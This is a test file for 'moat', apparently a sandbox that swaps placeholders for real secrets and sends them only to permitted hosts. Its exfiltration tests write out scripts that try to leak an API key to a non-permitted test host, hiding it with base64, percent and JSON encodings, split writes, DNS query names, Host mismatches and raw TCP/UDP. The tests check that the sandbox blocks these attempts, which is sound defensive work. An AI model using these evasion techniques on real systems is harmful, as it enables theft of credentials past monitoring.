// secrets.test.ts — secret injection with real clients inside the sandbox and a real HTTPS
// server in the world that records every request it receives: the allowed host gets the value
// (header, Basic auth; curl, python3, node), nothing else ever gets the value or the placeholder.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { writeFileSync, readFileSync, rmSync, existsSync } from "node:fs";
import { World, sandboxReadableDir, WORLD_IP4, TESTBED_JS, systemTestSkipReason, hasTool } from "../testbed/world.js";
import { makeCa, makeServerCert } from "../testbed/test-pki.js";

const skip = systemTestSkipReason() ?? (hasTool("curl", "--version") && hasTool("openssl", "version") ? undefined : "curl or openssl is not installed");
const VALUE = "sk-live-THE-REAL-VALUE-0123456789";
let world: World;
let dir = "";
let record = "";


before(async () => {
  if (skip) return;
  dir = sandboxReadableDir("moat-secrets-");
  record = `${dir}/record.jsonl`;
  makeCa(dir, "ca", "world test CA");
  makeServerCert(dir, "ca", ["DNS:allowed.test", "DNS:other.test", `IP:${WORLD_IP4}`]);
  world = World.create();
  world.startDnsServer();
  await world.startProcess([process.execPath, `${TESTBED_JS}servers.js`, "https", "443", `${dir}/srv.pem`, `${dir}/srv.key`, record]);
  await world.startServer("tcp-echo", 7);
  await world.startServer("udp-echo", 7);
});
after(() => {
  world?.teardown();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** moat run with API_KEY for allowed.test, its value in moat's environment as REAL_KEY. */
function run(script: string, extra: string[] = []) {
  process.env.REAL_KEY = VALUE; // inherited by moat, never by the sandbox
  return world.moat(["run", "--dns-nameserver", WORLD_IP4, "--tls-upstream-ca", `${dir}/ca.pem`, "--secret", "API_KEY=REAL_KEY@allowed.test", ...extra, "--", "sh", "-c", script], 60000);
}

function records(): { url: string; version: string; headers: Record<string, string>; body: string }[] {
  return existsSync(record) ? readFileSync(record, "utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l)) : [];
}

/** Every request the server saw since `from`, as text. */
function seenSince(from: number): string {
  return records().slice(from).map((r) => JSON.stringify(r)).join("\n");
}

test("the command sees only a placeholder: not in its environment, not in /proc", { skip }, async () => {
  const r = await run(`echo "API_KEY=$API_KEY REAL_KEY=$REAL_KEY"; cat /proc/self/environ | tr '\\0' '\\n' | grep -c -- "${VALUE}" || true`);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /^API_KEY=moat-ph-[a-z0-9]{24} REAL_KEY=\n0\n$/);
  assert.doesNotMatch(r.stdout + r.stderr, new RegExp(VALUE));
});

test("the allowed host receives the value in a header and in Basic auth, from curl, python3 and node; HTTP/2 clients too", { skip }, async () => {
  const from = records().length;
  writeFileSync(`${dir}/c.py`, `import os, urllib.request
req = urllib.request.Request('https://allowed.test/py', headers={'X-Api-Key': os.environ['API_KEY']})
print(urllib.request.urlopen(req).status)`);
  writeFileSync(`${dir}/c.js`, `require('https').get('https://allowed.test/node', { headers: { authorization: 'Bearer ' + process.env.API_KEY } }, (r) => { r.resume(); r.on('end', () => console.log(r.statusCode)); })`);
  const r = await run(`curl -sS -o /dev/null -H "Authorization: Bearer $API_KEY" https://allowed.test/curl-header; curl -sS -o /dev/null -u "me:$API_KEY" https://allowed.test/curl-basic; curl -sS -o /dev/null --http2 -H "X-Key: $API_KEY" https://allowed.test/curl-h2; python3 ${dir}/c.py; node ${dir}/c.js`);
  assert.equal(r.code, 0, r.stderr);
  const seen = records().slice(from);
  const by = (url: string) => seen.find((x) => x.url === url)?.headers;
  assert.equal(by("/curl-header")?.authorization, `Bearer ${VALUE}`);
  assert.equal(Buffer.from(by("/curl-basic")!.authorization!.replace(/^Basic /, ""), "base64").toString(), `me:${VALUE}`);
  assert.equal(by("/curl-h2")?.["x-key"], VALUE, "substituted in an HTTP/2 header block (HPACK)");
  assert.equal(seen.find((x) => x.url === "/curl-h2")?.version, "2.0", "over HTTP/2");
  assert.equal(by("/py")?.["x-api-key"], VALUE);
  assert.equal(by("/node")?.authorization, `Bearer ${VALUE}`);
  assert.doesNotMatch(JSON.stringify(seen), /moat-ph-/, "no placeholder reached the server");
});

test("exfiltration attempts never deliver the value or the placeholder anywhere", { skip }, async () => {
  const from = records().length;
  const audit = `${dir}/audit-exfil.jsonl`;
  writeFileSync(`${dir}/exfil.py`, `import os, ssl, socket, time, json, base64, urllib.parse
k = os.environ['API_KEY']
ctx = ssl.create_default_context()
def raw(host, chunks, sni=None):
    s = ctx.wrap_socket(socket.create_connection(('${WORLD_IP4}', 443)), server_hostname=sni or host)
    for c in chunks:
        s.sendall(c.encode()); time.sleep(0.05)
    try:
        print(host, repr(s.recv(200)[:40]))
    except Exception as e:
        print(host, type(e).__name__)
req = lambda host, path, hdr='', body='': 'POST %s HTTP/1.1\\r\\nHost: %s\\r\\n%sContent-Length: %d\\r\\n\\r\\n%s' % (path, host, hdr, len(body), body)
raw('other.test', [req('other.test', '/hdr', 'X-K: %s\\r\\n' % k)])
raw('allowed.test', [req('allowed.test', '/q?k=' + k)])
raw('allowed.test', [req('allowed.test', '/body', body='key=' + k)])
raw('other.test', [req('other.test', '/b64', body=base64.b64encode(('x' + k).encode()).decode())])
raw('other.test', [req('other.test', '/pct', body=''.join('%%%02X' % ord(c) for c in k))])
raw('allowed.test', [req('allowed.test', '/json', body=json.dumps({'k': k}, ensure_ascii=True).replace(k, ''.join('\\\\u%04x' % ord(c) for c in k)))])
r = req('other.test', '/split', 'X-K: %s\\r\\n' % k); i = r.index(k) + 10
raw('other.test', [r[:i], r[i:]])
raw('allowed.test', [req('other.test', '/host-mismatch', 'X-K: %s\\r\\n' % k)])
`);
  const r = await run(`python3 ${dir}/exfil.py; dig +short $API_KEY.allowed.test; curl -sS --resolve allowed.test:443:${WORLD_IP4} -H "X-K: $API_KEY" https://allowed.test/no-dns-lookup; echo; curl -sS --http2 -w ' %{http_version}' --resolve other.test:443:${WORLD_IP4} -H "X-K: $API_KEY" https://other.test/h2-leak; echo`,
    ["--secret-violation", "block-and-log", "--audit-log", audit]);
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stdout.trim().split("\n");
  const blocked = lines.filter((l) => /403 Forbidden|ConnectionResetError|b''/.test(l)).length;
  assert.equal(blocked, 8, `every attempt was stopped:\n${r.stdout}`);
  assert.match(r.stdout, /moat: blocked: the placeholder of secret API_KEY \(raw\) in header x-k to other\.test; it may be sent only to allowed\.test\n 2\n/, "an HTTP/2 client gets its 403 over HTTP/2");
  const seen = seenSince(from);
  assert.doesNotMatch(seen, new RegExp(VALUE), `the value reached the server:\n${seen}`);
  assert.doesNotMatch(seen, /moat-ph-/, `a placeholder reached the server:\n${seen}`);
  assert.doesNotMatch(seen, /"url":"\/(hdr|q|body|b64|pct|json|split|host-mismatch|h2-leak)/, `a blocked request reached the server:\n${seen}`);
  const events = existsSync(audit) ? readFileSync(audit, "utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l) as { kind: string; name: string; detail: string; repeated?: number }) : [];
  const v = events.filter((e) => e.kind === "secret-violation");
  // (Repeats of one event are written once more as a summary with their count.)
  assert.equal(v.reduce((n, e) => n + (e.repeated ?? 1), 0), 11, `audit: ${JSON.stringify(events)}`);
  assert.ok(v.every((e) => e.name === "API_KEY"));
  for (const form of ["raw", "base64", "percent-encoded", "JSON-escaped"]) assert.ok(v.some((e) => e.detail.startsWith(form)), `a ${form} violation`);
  assert.ok(v.some((e) => /query name/.test(e.detail)), "the DNS name");
  assert.doesNotMatch(readFileSync(audit, "utf8"), new RegExp(VALUE), "never the value in the audit log");
});

test("the guest's own TCP (plain HTTP, any port) and UDP carrying a placeholder are stopped in the engine, also split across writes", { skip }, async () => {
  const audit = `${dir}/audit-engine.jsonl`;
  writeFileSync(`${dir}/plain.py`, `import os, socket, time, base64
k = os.environ['API_KEY']
def tcp(chunks):
    s = socket.create_connection(('${WORLD_IP4}', 7), timeout=3)
    got = b''
    try:
        for c in chunks:
            s.sendall(c.encode()); time.sleep(0.1)
        s.shutdown(socket.SHUT_WR)
        while True:
            d = s.recv(4096)
            if not d: break
            got += d
        print('tcp echoed', len(got), k.encode() in got)
    except Exception as e:
        print('tcp', type(e).__name__, k.encode() in got)
tcp(['GET /?k=%s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' % k])
tcp(['hello ' + k[:12], k[12:] + ' world'])
tcp(['data ' + base64.b64encode(k.encode()).decode()])
tcp(['nothing secret here'])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
for msg in ['udp ' + k, 'udp clean']:
    u.sendto(msg.encode(), ('${WORLD_IP4}', 7))
    try: print('udp echoed', u.recv(100).decode().startswith('udp'))
    except Exception as e: print('udp', type(e).__name__)
`);
  const r = await run(`python3 ${dir}/plain.py`, ["--stats", "--secret-violation", "block-and-log", "--audit-log", audit]);
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stdout.trim().split("\n");
  assert.equal(lines.length, 6, r.stdout);
  for (const l of lines.slice(0, 3)) assert.match(l, /^tcp (ConnectionResetError|BrokenPipeError|OSError) False$/, "reset, nothing echoed");
  assert.deepEqual(lines.slice(3), ["tcp echoed 19 False", "udp TimeoutError", "udp echoed True"], "clean traffic passes; the datagram was dropped");
  assert.equal(World.stats(r.stderr).SECRET_VIOLATIONS, 4);
  const v = readFileSync(audit, "utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l) as { kind: string; detail: string; repeated?: number }).filter((e) => e.kind === "secret-violation");
  assert.ok(v.some((e) => /a TCP stream \(203\.0\.113\.10:7\)/.test(e.detail)), JSON.stringify(v));
  assert.ok(v.some((e) => /a UDP datagram \(203\.0\.113\.10:7\)/.test(e.detail)), JSON.stringify(v));
});

test("block-and-terminate: the command is killed, the sandbox destroyed, moat exits 125 saying why", { skip }, async () => {
  const r = await run(`curl -sS --resolve other.test:443:${WORLD_IP4} -H "X-K: $API_KEY" https://other.test/x; sleep 20; echo survived`, ["--secret-violation", "block-and-terminate"]);
  assert.equal(r.code, 125, r.stderr);
  assert.doesNotMatch(r.stdout, /survived/);
  assert.match(r.stderr, /sandbox terminated: secret API_KEY's placeholder was sent to 203\.0\.113\.10:443/);
  const left = execFileSync("sh", ["-c", "pgrep -f 'https://other[.]test/x' || true"], { encoding: "utf8" }).trim();
  assert.equal(left, "", "every process of the sandbox is gone, not only the command");
});

test("a secret's value must come from moat's environment, and a secret host cannot be bypassed", { skip }, async () => {
  delete process.env.NO_SUCH_KEY;
  const missing = await world.moat(["run", "--secret", "NO_SUCH_KEY@allowed.test", "--", "true"]);
  assert.equal(missing.code, 125);
  assert.match(missing.stderr, /moat's environment has no NO_SUCH_KEY/);
  const bypassed = await run("true", ["--tls-bypass", "*.test"]);
  assert.equal(bypassed.code, 125);
  assert.match(bypassed.stderr, /secret API_KEY is for allowed\.test, which --tls-bypass passes through untouched/);
});

test("with inject query and body (config file), the value also goes into the query string and HTTP/1.1 bodies, reframed", { skip }, async () => {
  const from = records().length;
  const cfg = `${dir}/inject.json`;
  writeFileSync(cfg, JSON.stringify({ network: { secrets: [{ env: "API_KEY", valueFrom: { env: "REAL_KEY" }, allowedHosts: ["allowed.test"], inject: { query: true, body: true } }] } }));
  process.env.REAL_KEY = VALUE;
  const r = await world.moat(["run", "--dns-nameserver", WORLD_IP4, "--tls-upstream-ca", `${dir}/ca.pem`, "--config", cfg, "--", "sh", "-c",
    `curl -sS -o /dev/null "https://allowed.test/query?k=$API_KEY&x=1"; curl -sS --http1.1 -o /dev/null -d "key=$API_KEY" https://allowed.test/form; curl -sS --http1.1 -o /dev/null -H 'Transfer-Encoding: chunked' --data-binary "{\\"k\\":\\"$API_KEY\\"}" https://allowed.test/chunked`]);
  assert.equal(r.code, 0, r.stderr);
  const seen = records().slice(from);
  assert.equal(seen.find((x) => x.url.startsWith("/query"))?.url, `/query?k=${encodeURIComponent(VALUE)}&x=1`);
  assert.equal(seen.find((x) => x.url === "/form")?.body, `key=${VALUE}`);
  assert.equal(seen.find((x) => x.url === "/chunked")?.body, `{"k":"${VALUE}"}`);
  assert.doesNotMatch(JSON.stringify(seen), /moat-ph-/);
});
